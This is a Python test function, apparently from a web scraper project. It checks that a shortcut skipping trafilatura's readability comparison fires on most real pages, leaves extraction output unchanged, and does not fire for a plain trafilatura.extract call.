    """``extraction/comparison.py`` skips trafilatura's readability comparison when its rules cannot pick
    readability: every corpus and benchmark page gives the same issue with the comparison always run.
    The skip must also happen (most pages), and never for a bare ``trafilatura.extract``."""
    import trafilatura

    from tomtalks_scraper.extraction import comparison

    pages = _real_pages(shared)
    assert len(pages) > 150
    before = comparison.skipped_calls
    skipped = [extract_issue(html, url).to_dict() for html, url in pages]
    skips = comparison.skipped_calls - before
    assert skips > len(pages) // 2
    trafilatura.extract(pages[0][0], url=pages[0][1], with_metadata=True, include_comments=False)
    assert comparison.skipped_calls - before == skips
    monkeypatch.setattr(comparison, "readability_cannot_win", lambda *args: False)
    for (html, url), fast in zip(pages, skipped, strict=True):
        assert extract_issue(html, url).to_dict() == fast, url
    assert comparison.skipped_calls - before == skips
